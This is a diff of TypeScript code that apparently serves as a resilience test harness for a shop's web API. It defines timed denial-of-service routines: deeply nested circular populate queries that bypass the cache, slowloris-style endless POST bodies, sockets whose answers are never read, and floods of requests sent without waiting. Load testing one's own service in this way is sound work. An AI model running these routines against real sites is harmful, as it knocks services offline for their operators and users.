@@ -2,28 +2,42 @@
 import { connect, type Socket } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
 
-export interface Attack {
+interface Attack {
   /** What came of it, once it has been stopped. */
   stop(): Promise<string> | string;
 }
 
-/** As deep as links go round: collections of products of collections. */
+/** For as long as it takes to see the end of what the shop allows: thirty seconds for a client that does not move. */
+export const ATTACKS: Readonly<Record<string, { readonly seconds: number; begin(url: string): Attack }>> = {
+  'heavy content queries': { seconds: 20, begin: heavyQueries },
+  'bodies that never end': { seconds: 35, begin: endlessBodies },
+  'answers nobody reads': { seconds: 35, begin: unreadAnswers },
+  'hundreds of requests without waiting': { seconds: 10, begin: impatientClients },
+};
+
 const CIRCLE = ['products', 'collections', 'products', 'collections', 'products'];
-const HEAVY = `/api/collections?${CIRCLE.map((_, depth) =>
-  CIRCLE.slice(0, depth + 1)
-    .map((name, level) => (level === 0 ? `populate[${name}]` : `[populate][${name}]`))
-    .join('')
-    .concat('[sort]=id'),
-).join('&')}`;
-const QUERIES_PER_SECOND = 20;
+
+/** As deep as links go round, collections of products of collections: some are refused, the rest are as heavy as is allowed. */
+function heavyQuery(nth: number): string {
+  const levels = CIRCLE.slice(0, 2 + (nth % (CIRCLE.length - 1)));
+  const populate = levels.map((_, depth) => `populate${path(levels.slice(0, depth + 1))}[sort]=id`).join('&');
+  // Another number each time, so that no answer is one kept from before.
+  return `/api/collections?${populate}&filters[id][$lt]=${100_000 + nth}`;
+}
+
+const path = (names: readonly string[]): string => names.map((name) => `[${name}]`).join('[populate]');
+
+const QUERIES_PER_SECOND = 7;
 const CLIENTS = 40;
 
 /** Reads that walk in circles, many a second. */
-export function heavyQueries(url: string): Attack {
+function heavyQueries(url: string): Attack {
   const statuses = new Map<number, number>();
   const stopped = new AbortController();
+  let asked = 0;
   const timer = setInterval(async () => {
-    const answer = await fetch(url + HEAVY, { signal: stopped.signal }).catch(() => null);
+    asked += 1;
+    const answer = await fetch(url + heavyQuery(asked), { signal: stopped.signal }).catch(() => null);
     await answer?.arrayBuffer().catch(() => null);
     if (!stopped.signal.aborted) statuses.set(answer?.status ?? 0, (statuses.get(answer?.status ?? 0) ?? 0) + 1);
   }, 1_000 / QUERIES_PER_SECOND);
@@ -37,7 +51,7 @@ export function heavyQueries(url: string): Attack {
 }
 
 /** Forms of which one letter comes a second, and never the last. */
-export function endlessBodies(url: string): Attack {
+function endlessBodies(url: string): Attack {
   const sockets = open(url);
   const head = 'POST /newsletter HTTP/1.1\r\nHost: shop\r\nContent-Type: application/x-www-form-urlencoded\r\n';
   for (const socket of sockets) socket.write(`${head}Content-Length: 100000\r\n\r\n`);
@@ -53,7 +67,7 @@ export function endlessBodies(url: string): Attack {
 }
 
 /** Pages asked for several times on one connection, and never read. */
-export function unreadAnswers(url: string, times = 8): Attack {
+function unreadAnswers(url: string, times = 8): Attack {
   const sockets = open(url);
   for (const socket of sockets) {
     socket.pause();
@@ -63,7 +77,9 @@ export function unreadAnswers(url: string, times = 8): Attack {
 }
 
 /** The same hundreds of times, without waiting for a single answer. */
-export const impatientClients = (url: string): Attack => unreadAnswers(url, 300);
+function impatientClients(url: string): Attack {
+  return unreadAnswers(url, 300);
+}
 
 function open(url: string): Socket[] {
   const { hostname, port } = new URL(url);
